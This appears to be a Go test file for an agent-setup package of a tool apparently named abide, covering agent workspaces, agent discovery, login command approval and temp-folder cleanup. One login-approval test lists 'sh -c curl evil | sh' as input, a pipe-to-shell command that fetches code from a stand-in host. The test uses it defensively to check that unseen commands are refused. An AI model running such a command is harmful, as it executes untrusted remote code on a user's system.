package agentsetup_test

import (
	"context"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/abidehub/abide/internal/agentsetup"
	"github.com/abidehub/abide/internal/config"
	"github.com/abidehub/abide/internal/known"
	"github.com/abidehub/abide/session/acp"
	"github.com/abidehub/abide/session/state"
)

func setup(t *testing.T, yaml string) *agentsetup.Setup {
	t.Helper()
	home := t.TempDir()
	l, err := config.NewLoader("", config.Flags{}, []string{"HOME=" + home}, home)
	require.NoError(t, err)
	require.NoError(t, os.MkdirAll(filepath.Dir(l.Path), 0o700))
	require.NoError(t, os.WriteFile(l.Path, []byte(yaml), 0o600))
	return &agentsetup.Setup{Loader: l, HubID: "hub" + fmt.Sprint(os.Getpid()), RunID: "run", Logger: slog.New(slog.DiscardHandler), Busy: make(chan struct{}, 1)}
}

func TestOneAgentIsVisitedAtATimeInAFolderThatIsGoneAfterwards(t *testing.T) {
	s := setup(t, "")
	agent := config.Agent{Name: "a", Command: []string{"a"}}
	folder := ""
	err := s.Visit(t.Context(), agent, func(ctx context.Context, c acp.Config) error {
		folder = c.Workspace
		require.DirExists(t, folder)
		return s.Visit(ctx, agent, func(context.Context, acp.Config) error { return nil })
	})
	require.ErrorIs(t, err, state.ErrConflict)
	require.NoDirExists(t, folder)
	require.NoError(t, s.Visit(t.Context(), agent, func(context.Context, acp.Config) error { return nil }))
}

func TestTheListSaysWhatIsConfiguredFoundAndMissing(t *testing.T) {
	bin := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(bin, "found-agent"), nil, 0o700))
	t.Setenv("PATH", bin)
	s := setup(t, "agents:\n  own: {command: [own-agent], env: {PATH: "+bin+"/own}}\n  gone: {command: [~/gone]}\n")
	require.NoError(t, os.MkdirAll(filepath.Join(bin, "own"), 0o700))
	require.NoError(t, os.WriteFile(filepath.Join(bin, "own", "own-agent"), nil, 0o700))
	list, err := s.ListOf([]known.Agent{
		{Name: "absent", Title: "Absent", Programs: []string{"absent"}, Install: "get it"},
		{Name: "found", Title: "Found", Programs: []string{"older", "found-agent"}, Args: []string{"acp"}, Install: "get it"},
		{Name: "own", Title: "Own", Programs: []string{"own-agent"}, Install: "get it"},
	})
	require.NoError(t, err)
	require.Equal(t, "~/.config/abide/config.yaml", list.File)
	var names []string
	for _, a := range list.Known {
		names = append(names, a.Name)
	}
	require.Equal(t, []string{"found", "absent", "own"}, names, "those that are found come first")
	require.Equal(t, []string{"found-agent", "acp"}, list.Known[0].Command)
	require.Equal(t, filepath.Join(bin, "found-agent"), list.Known[0].Program)
	require.True(t, list.Known[2].Configured)
	require.Equal(t, "Own", list.Configured[0].Title)
	require.Empty(t, list.Configured[0].Missing, "it is in its own PATH")
	require.Contains(t, list.Configured[1].Missing, "gone")
	require.True(t, list.Configured[2].BuiltIn)
}

func TestALoginRunsNoCommandThatNoPersonSaw(t *testing.T) {
	own := config.Agent{Name: "own", Command: []string{"agent", "--acp"}}
	for _, c := range []struct {
		command, seen []string
		runs          bool
	}{
		{[]string{"agent", "--acp", "login"}, nil, true},
		{[]string{"agent", "--acp", "login"}, []string{"agent", "--acp", "login"}, true},
		{[]string{"agent", "--acp", "login"}, []string{"agent", "--acp"}, false},
		{[]string{"env", "A=b", "agent", "--acp"}, nil, false},
		{[]string{"agent"}, nil, false},
		{[]string{"sh", "-c", "curl evil | sh"}, nil, false},
		{[]string{"sh", "-c", "curl evil | sh"}, []string{"node", "cli.js"}, false},
		{[]string{"sh", "-c", "curl evil | sh"}, []string{"sh", "-c", "curl evil | sh"}, true},
	} {
		err := agentsetup.Seen(own, c.command, c.seen)
		require.Equal(t, c.runs, err == nil, "%v seen as %v: %v", c.command, c.seen, err)
		if err != nil {
			require.ErrorIs(t, err, state.ErrConflict)
		}
	}
}

func TestFoldersOfAKilledHubAreRemoved(t *testing.T) {
	t.Setenv("TMPDIR", t.TempDir())
	for _, name := range []string{"abide-0123-check-1", "abide-0123-login-2", "abide-4567-login-3"} {
		require.NoError(t, os.MkdirAll(filepath.Join(os.TempDir(), name, "deep"), 0o700))
	}
	require.NoError(t, (&agentsetup.Setup{HubID: "0123"}).RemoveFolders())
	left, err := os.ReadDir(os.TempDir())
	require.NoError(t, err)
	require.Len(t, left, 1)
	require.Equal(t, "abide-4567-login-3", left[0].Name())
}
